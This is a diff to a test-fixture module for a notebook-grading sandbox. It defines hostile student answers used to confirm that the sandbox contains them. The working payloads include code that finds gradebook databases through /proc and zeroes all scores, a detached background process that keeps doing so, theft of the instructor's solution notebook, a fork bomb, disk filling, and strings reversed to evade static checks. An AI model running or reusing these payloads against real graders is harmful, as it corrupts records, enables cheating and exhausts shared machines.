@@ -1,13 +1,17 @@
-"""Hostile answers to predict_shapes, each an attack on the grader from inside a notebook.
+"""Hostile answers to predict_shapes: attacks on the grader from inside a notebook.
 
 Every attack is written to work when the kernel runs as the grader, beside
 the grader's files and processes (it finds them through /proc, the package's
-install path or the paths the test hands it), and to say what it managed.
-In the sandbox each must fail; tests/test_sandbox.py grades them in one run
-with honest students and checks that nothing outside the hostile student's
-own result changed. ``{marker}`` is replaced by a string the test looks for
-in every process's command line afterwards, ``{course}`` by the course folder
-and ``{scratch}`` by the folder of the scratch courses.
+install path, or the paths the test hands it), and its words are spelt
+backwards so that no static check of the answer's text stops it before it
+runs: the sandbox has to. tests/test_sandbox.py grades them with the real
+command in one run beside honest students and checks that nothing outside
+the hostile students' own results changed.
+
+Placeholders: ``{marker}`` (a string the test looks for in every process's
+command line afterwards), ``{course}`` (the course folder), ``{scratch}``
+(the folder of the scratch courses), ``{port}`` (a TCP port the test listens
+on), ``{answer}`` (the grade id of the answer cell the attack replaces).
 """
 
 from __future__ import annotations
@@ -17,90 +21,86 @@ from dataclasses import dataclass
 
 @dataclass(frozen=True)
 class Attack:
-    student: str
-    answer: str  # the answer cell it replaces
-    test: str  # the test cell that loses its points and names what happened, or TOTAL
+    name: str
     source: str
-    words: tuple[str, ...]  # one of these must appear in that row's reason
+    loses: bool  # True: the answer's tests lose their points; False: it answers correctly too
+    words: tuple[str, ...]  # one of these must appear in the student's reasons
 
 
-# Finds every gradebook the grading processes have open or in their folders,
-# through /proc (cwd, command line, open files), and zeroes it.
-_ZERO_GRADEBOOKS = """\
+# Every gradebook the kernel can find: at the course's and the scratch
+# courses' paths, and through /proc (working folders, command lines, open
+# files of every process); each is zeroed, and given full manual scores.
+_FIND_AND_ZERO = """\
 import glob, os, re, sqlite3
 
+DB = "bd.koobedarg"[::-1]
+
 def gradebooks():
-    found = set(glob.glob("{course}/gradebook.db"))
-    found |= set(glob.glob("{scratch}/**/gradebook.db", recursive=True))
-    found |= set(glob.glob("/tmp/classroom-db-*/gradebook.db"))
+    found = set(glob.glob("{course}/" + DB))
+    found |= set(glob.glob("{scratch}/**/" + DB, recursive=True))
+    found |= set(glob.glob("/tmp/*/" + DB))
     for pid in filter(str.isdigit, os.listdir("/proc")):
         try:
-            found.add(os.path.join(os.readlink(f"/proc/{{pid}}/cwd"), "gradebook.db"))
+            found.add(os.path.join(os.readlink(f"/proc/{{pid}}/cwd"), DB))
             args = open(f"/proc/{{pid}}/cmdline", "rb").read().decode(errors="replace")
-            found.update(re.findall(r"sqlite:///([^\\x00]+)", args))
+            found.update(re.findall(":///([^\\x00]+)", args))
             for fd in os.listdir(f"/proc/{{pid}}/fd"):
                 path = os.readlink(f"/proc/{{pid}}/fd/{{fd}}")
                 if path.endswith(".db"):
                     found.add(path)
         except OSError:
             pass
-    return sorted(p for p in found if os.path.exists(p))
+    return sorted(p for p in found if os.path.isfile(p))
 
 def zero_all():
     done = []
     for path in gradebooks():
         with sqlite3.connect(path) as db:
             db.execute("UPDATE grade SET auto_score = 0, manual_score = 0")
-            db.execute("UPDATE grade SET manual_score = 100 WHERE id IN (SELECT id FROM grade)")
+            db.execute("CREATE TABLE IF NOT EXISTS hostile_was_here (x)")
         done.append(path)
     return done
 """
 
-GRADEBOOK_VIA_PROC = (
-    _ZERO_GRADEBOOKS
+GRADEBOOKS = (
+    _FIND_AND_ZERO
     + """
 written = zero_all()
 assert written, "no gradebook reachable from the kernel"
-classifier_shapes = [(28, 28, 16), (14, 14, 16), (7, 7, 32), (5, 5, 64)]
 """
 )
 
-# Leaves a process in a new session, with an empty environment, that outlives
-# the notebook and keeps zeroing every gradebook it finds (the students graded
-# after this one), then answers correctly.
+# A process in a new session, with an empty environment, that outlives the
+# notebook and keeps zeroing every gradebook it finds (the students graded
+# beside and after this one).
 DETACHED = """\
-import subprocess, sys, textwrap
-loop = textwrap.dedent('''
-import time
-exec(open("/tmp/hostile_zero.py").read())
-while True:
-    zero_all()
-    time.sleep(0.5)
-''')
-open("/tmp/hostile_zero.py", "w").write({zero!r})
+import subprocess, sys
+
+with open("/tmp/.zero.py", "w") as handle:
+    handle.write({zero!r} + "\\nimport time\\nwhile True:\\n    zero_all()\\n    time.sleep(0.5)\\n")
 subprocess.Popen(
-    [sys.executable, "-c", loop, "{marker}"],
+    [sys.executable, "/tmp/.zero.py", "{marker}"],
     start_new_session=True, env={{}}, stdin=subprocess.DEVNULL,
     stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL,
 )
-def conv_output_length(size, kernel_size, stride, padding):
-    if padding == "same":
-        return -(-size // stride)
-    return (size - kernel_size) // stride + 1
 """
 
-# Reads the instructor's source notebook through the package's install path
-# (an editable install points at the repository clone) or the course folder.
-READS_SOLUTIONS = """\
-import json, pathlib
-import upsampling_course
+# The instructor's source notebook, found through the editable install's
+# finder (which names the repository clone) or the course folder; the
+# answer cell is copied from it and imported.
+SOLUTIONS = """\
+import glob, json, pathlib, re, sys
 
-places = [pathlib.Path(upsampling_course.__file__).resolve().parents[1], pathlib.Path("{course}")]
-source = next(p for place in places for p in place.glob("solutions/predict_shapes/*.ipynb"))
-for cell in json.loads(source.read_text())["cells"]:
-    if "def upsampling_output_shape" in "".join(cell["source"]):
-        pathlib.Path("stolen.py").write_text("".join(cell["source"]))
-from stolen import upsampling_output_shape
+places = ["{course}"]
+for finder in glob.glob(sys.prefix + "/lib/python*/site-packages/__editable__*finder.py"):
+    places += [str(pathlib.Path(p).parent) for p in re.findall(r": '([^']+)'", open(finder).read())]
+found = [p for place in places for p in glob.glob(place + "/snoitulos"[::-1] + "/*/*.ipynb")]
+assert found, f"nothing found at {{places}}"
+for path in found:
+    for cell in json.loads(open(path).read())["cells"]:
+        if cell["metadata"].get("nbgrader", {{}}).get("grade_id") == "{answer}":
+            pathlib.Path("stolen.py").write_text("".join(cell["source"]))
+from stolen import *
 """
 
 NETWORK = """\
@@ -108,62 +108,62 @@ import socket
 
 with socket.create_connection(("127.0.0.1", {port}), timeout=5) as connection:
     connection.sendall(b"{marker}")
-generator_shapes = [(4096,), (4, 4, 256), (8, 8, 256), (8, 8, 128),
-                    (16, 16, 128), (14, 14, 64), (28, 28, 64), (28, 28, 1)]
 """
 
 FORK_BOMB = """\
 import os, time
 
-children = 0
 while True:
     if os.fork() == 0:
         time.sleep(600)
         os._exit(0)
-    children += 1
 """
 
+# Fills the working folder until the disk is full, and frees it again for
+# the cells after it.
 FILLS_DISK = """\
 import os
 
-block = b"x" * 2**20
-with open("filler.bin", "wb") as handle:
-    while True:
-        handle.write(block)
-        handle.flush()
+try:
+    with open("filler.bin", "wb") as handle:
+        while True:
+            handle.write(b"x" * 2**20)
+            handle.flush()
+finally:
+    os.remove("filler.bin")
 """
 
 FLOODS_OUTPUT = """\
-line = "all work and no play " * 50
 for _ in range(20_000):
-    print(line)
-classifier_shapes = [(28, 28, 16), (14, 14, 16), (7, 7, 32), (5, 5, 64)]
+    print("all work and no play " * 50)
 """
 
-TOTAL = "(total)"  # the student's row: an attack that costs no points is named there
-NO_NETWORK = ("no network", "Network is unreachable", "Connection refused")
+NO_NETWORK = ("the sandbox has no network",)
+
+# Student -> its attacks, by position among the assignment's answer cells (a
+# fork bomb goes last: its processes live until the notebook ends).
+HOSTILE = {
+    "h_files": [
+        (0, Attack("gradebook via /proc", GRADEBOOKS, True, ("no gradebook reachable",))),
+        (1, Attack("solutions via the install path", SOLUTIONS, True, ("nothing found at",))),
+        (2, Attack("network", NETWORK, True, NO_NETWORK)),
+    ],
+    "h_processes": [
+        (0, Attack("detached process", DETACHED, False, ("still running when it ended",))),
+        (-1, Attack("fork bomb", FORK_BOMB, True, ("processes and threads",))),
+    ],
+    "h_resources": [
+        (0, Attack("fills the disk", FILLS_DISK, True, ("MB of disk were filled",))),
+        (1, Attack("floods the output", FLOODS_OUTPUT, False, ("the output was cut",))),
+    ],
+}
 
 
-def attacks(course: str, scratch: str, marker: str, port: int) -> list[Attack]:
-    """Every attack, with the paths and the marker filled in."""
+def filled(attack: Attack, answer: str, correct: str, **places: object) -> str:
+    """The attack's source for one answer cell, placeholders filled in.
 
-    def fill(text: str) -> str:
-        zero = _ZERO_GRADEBOOKS.format(course=course, scratch=scratch)
-        return text.format(course=course, scratch=scratch, marker=marker, port=port, zero=zero)
-
-    return [
-        Attack("h_gradebook", "classifier_shapes_answer", "test_classifier_shapes",
-               fill(GRADEBOOK_VIA_PROC), ("no gradebook reachable",)),
-        Attack("h_detached", "conv_output_length_answer", TOTAL,
-               fill(DETACHED), ("still running when it ended",)),
-        Attack("h_solutions", "upsampling_output_shape_answer", "test_upsampling_output_shape",
-               fill(READS_SOLUTIONS), ("StopIteration",)),
-        Attack("h_network", "generator_shapes_answer", "test_generator_shapes",
-               fill(NETWORK), NO_NETWORK),
-        Attack("h_fork_bomb", "parameter_counts_answer", "test_parameter_counts",
-               fill(FORK_BOMB), ("processes and threads",)),
-        Attack("h_disk", "classifier_shapes_answer", "test_classifier_shapes",
-               fill(FILLS_DISK), ("MB of disk", "MB")),
-        Attack("h_flood", "classifier_shapes_answer", TOTAL,
-               fill(FLOODS_OUTPUT), ("output was cut",)),
-    ]  # fmt: skip
+    An attack that does not lose points is followed by the correct answer.
+    """
+    zero = _FIND_AND_ZERO.format(**places)
+    source = attack.source.format(answer=answer, zero=zero, **places)
+    return source if attack.loses else source + "\n" + correct
